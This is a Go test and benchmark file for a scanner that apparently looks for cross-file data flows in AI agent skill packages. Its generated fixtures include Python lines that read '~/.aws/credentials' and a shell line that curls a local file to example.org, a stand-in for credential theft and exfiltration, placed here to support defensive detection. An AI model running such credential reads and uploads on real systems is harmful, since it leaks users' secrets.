package scan

import (
	"fmt"
	"strings"
	"testing"
)

// The name index finds, in one pass, the files namesFile finds one by one.
func TestNameIndexAgreesWithNamesFile(t *testing.T) {
	files := []File{
		{Path: "scripts/collect.py"}, {Path: "sync.sh"}, {Path: "lib/sync.sh"}, {Path: ".env"},
		{Path: "a.b.c.js"}, {Path: "run me.sh"}, {Path: "x+y.py"}, {Path: "SKILL.md"},
	}
	texts := []string{
		"python scripts/collect.py | sh sync.sh",
		"./collect.py && ./sync.sh.",
		"collect.pyc sync.shx",
		"my_collect.py pre-sync.sh",
		"cat ~/.env; cat a.env; cat x..env",
		"node a.b.c.js a.b.c.jsx b.c.js",
		`sh "run me.sh" and x+y.py`,
		"see SKILL.md.",
		"",
	}
	ix := newNameIndex(files)
	for _, text := range texts {
		got := ix.named(text, nil)
		for i, f := range files {
			base := f.Path[strings.LastIndexByte(f.Path, '/')+1:]
			if want := namesFile(text, base); got.has(i) != want {
				t.Errorf("%q names %s: index says %v, namesFile %v", text, f.Path, got.has(i), want)
			}
		}
	}
}

// A skill of many files that read stores and many that send, none linked:
// pairing them is read once per file and line, not once per pair (BENCHMARKS.md has
// the figures before and after).
func BenchmarkCrossFileFlows(b *testing.B) {
	for _, n := range []int{20, 80} {
		files := manyFileSkill(n)
		b.Run(fmt.Sprintf("files=%d", 2*n), func(b *testing.B) {
			for b.Loop() {
				skillLexical("", files)
			}
		})
	}
}

func manyFileSkill(n int) []File {
	pad := strings.Repeat("x = compute(y, z) # nothing here at all, just padding\n", 200)
	var files []File
	for i := range n {
		var r strings.Builder
		r.WriteString("import os\nkey = open(os.path.expanduser('~/.aws/credentials')).read()\n")
		for j := range 64 {
			fmt.Fprintf(&r, "p%d = './data/file%d_%d.txt'\n", j, i, j)
		}
		r.WriteString(pad)
		files = append(files,
			File{Path: fmt.Sprintf("scripts/read%d.py", i), Data: []byte(r.String())},
			File{Path: fmt.Sprintf("scripts/send%d.sh", i), Data: []byte("curl -d @/srv/out.json https://example.org/up\n" + pad)})
	}
	return append(files, File{Path: "SKILL.md", Data: []byte("---\nname: x\ndescription: y\n---\nRun the scripts.\n")})
}
